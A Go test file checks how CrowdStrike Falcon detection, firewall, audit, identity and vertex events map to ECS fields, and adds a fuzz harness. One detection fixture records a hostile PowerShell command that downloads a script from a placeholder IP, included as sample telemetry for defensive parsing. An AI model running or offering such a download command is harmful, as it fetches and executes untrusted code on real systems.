package vendors_test

import "testing"

func TestCrowdStrikeFalcon(t *testing.T) {
	runECSCases(t, "crowdstrike-falcon", true, []ecsCase{
		{"detection", `{"metadata":{"customerIDString":"c0ffee","offset":7,"eventType":"DetectionSummaryEvent","eventCreationTime":1700000000123,"version":"1.0"},"event":{"ProcessStartTime":1699999990,"ProcessEndTime":0,"ProcessId":4242,"ParentProcessId":4141,"ComputerName":"WS-RAD-07","UserName":"HOSP\\lwang","DetectName":"Suspicious Activity","DetectDescription":"PowerShell download","Severity":4,"SeverityName":"High","FileName":"powershell.exe","FilePath":"\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0","CommandLine":"powershell -c iwr http://203.0.113.9/p.ps1","SHA256String":"aa11","MD5String":"bb22","LocalIP":"10.20.1.7","MACAddress":"00-11-22-33-44-55","Tactic":"Execution","Technique":"PowerShell","ParentImageFileName":"\\Device\\HarddiskVolume3\\Windows\\explorer.exe","ParentCommandLine":"C:\\Windows\\explorer.exe","IOCType":"ipv4","IOCValue":"203.0.113.9","PatternDispositionDescription":"Detection, standard detection."}}`,
			map[string]any{"@timestamp": "2023-11-14T22:13:20.123Z", "event.kind": "alert", "event.severity": int64(4), "host.name": "WS-RAD-07",
				"user.name": "lwang", "user.domain": "HOSP", "process.pid": int64(4242), "process.parent.name": "explorer.exe",
				"process.parent.working_directory": `\Device\HarddiskVolume3\Windows`, "process.start": "2023-11-14T22:13:10Z",
				"file.hash.sha256": "aa11", "host.ip": []any{"10.20.1.7"}, "threat.technique.name": []any{"PowerShell"}, "threat.indicator.ip": "203.0.113.9",
				"threat.indicator.type": "ipv4-addr", "url.domain": "203.0.113.9", "url.path": "/p.ps1", "related.user": []any{"lwang"}}},
		{"firewall inbound", `{"metadata":{"customerIDString":"c0ffee","eventType":"FirewallMatchEvent","eventCreationTime":1700000000000},"event":{"ConnectionDirection":"1","EventType":"FirewallRuleIP4Matched","HostName":"ws1","ImageFileName":"/usr/sbin/sshd","LocalAddress":"10.0.0.5","LocalPort":"22","RemoteAddress":"198.51.100.4","RemotePort":"50000","Protocol":"6","RuleAction":"2","RuleName":"block ssh","RuleId":"77","PolicyName":"Workstations","Ipv":"ipv4","PID":"900"}}`,
			map[string]any{"network.direction": "inbound", "source.ip": "198.51.100.4", "destination.port": int64(22), "network.transport": "tcp",
				"event.type": []any{"denied"}, "process.name": "sshd", "process.executable": "/usr/sbin/sshd", "rule.ruleset": "Workstations"}},
		{"audit", `{"metadata":{"customerIDString":"c0ffee","eventType":"UserActivityAuditEvent","eventCreationTime":1700000000000},"event":{"UserId":"admin@example.org","UserIp":"192.0.2.50","OperationName":"detection_update","ServiceName":"detections","Success":true,"AuditKeyValues":[{"Key":"detection_id","ValueString":"ldt:1:2"}]}}`,
			map[string]any{"source.ip": "192.0.2.50", "user.id": "admin@example.org", "event.category": []any{"configuration"}, "event.outcome": "success", "crowdstrike.detect_id": "ldt:1:2"}},
		{"identity", `{"metadata":{"customerIDString":"c0ffee","eventType":"IdpDetectionSummaryEvent","eventCreationTime":1700000000000},"event":{"StartTime":133443936000000000,"Severity":3,"SourceAccountName":"jli","SourceAccountDomain":"HOSP.LOCAL","Tactic":"Credential Access","Objective":"Gain Access"}}`,
			map[string]any{"event.start": "2023-11-14T00:00:00Z", "user.name": "jli", "user.domain": "HOSP.LOCAL", "event.reason": "Gain Access"}},
		{"vertex", `{"metadata":{"eventType":"Vertex","detectionIdString":"ldt:1","severity":{"code":4,"name":"High"}},"event":{"customer_id":"c0ffee","device_id":"d1","vertex_type":"process","timestamp":"2023-11-14T00:00:00Z","properties":{"ImageFileName":"\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe","RawProcessId":"321","UserSid":"S-1-5-18","ProcessStartTime_formatted":"2023-11-13T23:59:00Z"}}}`,
			map[string]any{"process.name": "cmd.exe", "process.pid": int64(321), "user.id": "S-1-5-18", "event.severity": int64(4), "process.start": "2023-11-13T23:59:00Z"}},
	})
}

func FuzzCrowdStrikeFalcon(f *testing.F) {
	fuzzVendor(f, "crowdstrike-falcon",
		`{"metadata":{"eventType":"DetectionSummaryEvent","customerIDString":"x","eventCreationTime":1},"event":{"CommandLine":"a http://","IOCType":"ipv4","IOCValue":",,"}}`,
		`{"metadata":{"eventType":"Vertex"},"event":{"properties":{"ProcessStartTime":"133027667360825182"}}}`,
		`{"metadata":{"eventType":"FirewallMatchEvent"},"event":{"ConnectionDirection":"1","LocalAddress":1}}`, `{}`, `[]`)
}
